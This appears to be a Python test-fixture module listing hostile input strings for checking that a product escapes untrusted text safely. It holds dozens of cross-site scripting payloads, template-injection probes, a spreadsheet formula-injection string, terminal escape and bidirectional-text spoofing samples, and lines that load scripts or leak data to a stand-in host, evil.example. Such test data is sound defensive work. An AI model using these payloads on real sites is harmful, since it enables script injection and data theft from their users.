"""Hostile text, as a model, a document or a colleague might write it."""

from __future__ import annotations

_RAN = "window.__xss=1"
_SHORT = (
    f"<script>{_RAN}</script>",
    f"<ScRiPt >{_RAN}</sCrIpT >",
    f"</script><script>{_RAN}</script>",
    f"<<script>{_RAN}//<</script>",
    f"</textarea><script>{_RAN}</script>",
    f"</title><script>{_RAN}</script>",
    f"--></style></script><script>{_RAN}</script><!--",
    f"<script src='http://evil.example/x.js'>{_RAN}</script>",
    f"<img src=x onerror={_RAN}>",
    f'"><img src=x onerror="{_RAN}">',
    f"'><img src=x onerror='{_RAN}'>",
    f"<img/src=`x`/onerror={_RAN}>",
    f"<img src=http://evil.example/p.png onload={_RAN}>",
    f"<svg onload={_RAN}>",
    f"<svg><script>{_RAN}</script></svg>",
    f"<svg><animate onbegin={_RAN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_RAN}>#x'/></svg>",
    f"<math><mtext></mtext><mglyph><style></math><img src onerror={_RAN}>",
    f"<body onload={_RAN}>",
    f"<iframe src=javascript:{_RAN}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RAN}</script>"></iframe>',
    f"<object data=javascript:{_RAN}></object>",
    f"<embed src=javascript:{_RAN}>",
    f"<a href=javascript:{_RAN}>press me</a>",
    f"[press me](javascript:{_RAN})",
    f"javascript:{_RAN}",
    "<a href='http://evil.example/?q=' ping='http://evil.example/ping'>elsewhere</a>",
    "![picture](http://evil.example/leak.png?q=secret)",
    f"<details open ontoggle={_RAN}>",
    f"<input autofocus onfocus={_RAN}>",
    f"<video><source onerror={_RAN}></video>",
    f"<marquee onstart={_RAN}>",
    "<form action=http://evil.example/><button>Send</button></form>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/b)'>",
    "{{ 7*7 }} {% load static %} {% debug %} {{ request.user.password }}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('return 1')()}}",
    f"'-{_RAN}-' \\'-{_RAN}// ';{_RAN};'",
    f'" onmouseover="{_RAN}" x="',
    f"\u2028{_RAN}\u2029 &lt;script&gt; &amp; &#60;script&#62;",
    f"<b>%{{customdata[0]}}</b><br><a href='javascript:{_RAN}'>%{{x}}</a>",
    "=cmd|'/C calc'!A0 +1+1 @SUM(1) -2",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example/\x07link\x1b]8;;\x07 \x07\x08",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200fright\u200e \ufeffmark",
    "مرحبا بالعالم <b>נסיון</b>",
    "Z\u0351\u036f\u0341a\u0316\u0334l\u0338\u0321g\u0337\u0328o\u0335 " * 40,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea \U000e0041 \ufffd \uffff",
    "__proto__ constructor toString hasOwnProperty",
    "null undefined NaN -Infinity",
)
HUGE = "unbroken" * 6_000 + " <script>window.__xss=1</script>"
PAYLOADS = (*_SHORT, HUGE)

NAME = '<img src=x onerror="window.__xss=1">\u202e'
"""Short enough for every name in the product."""
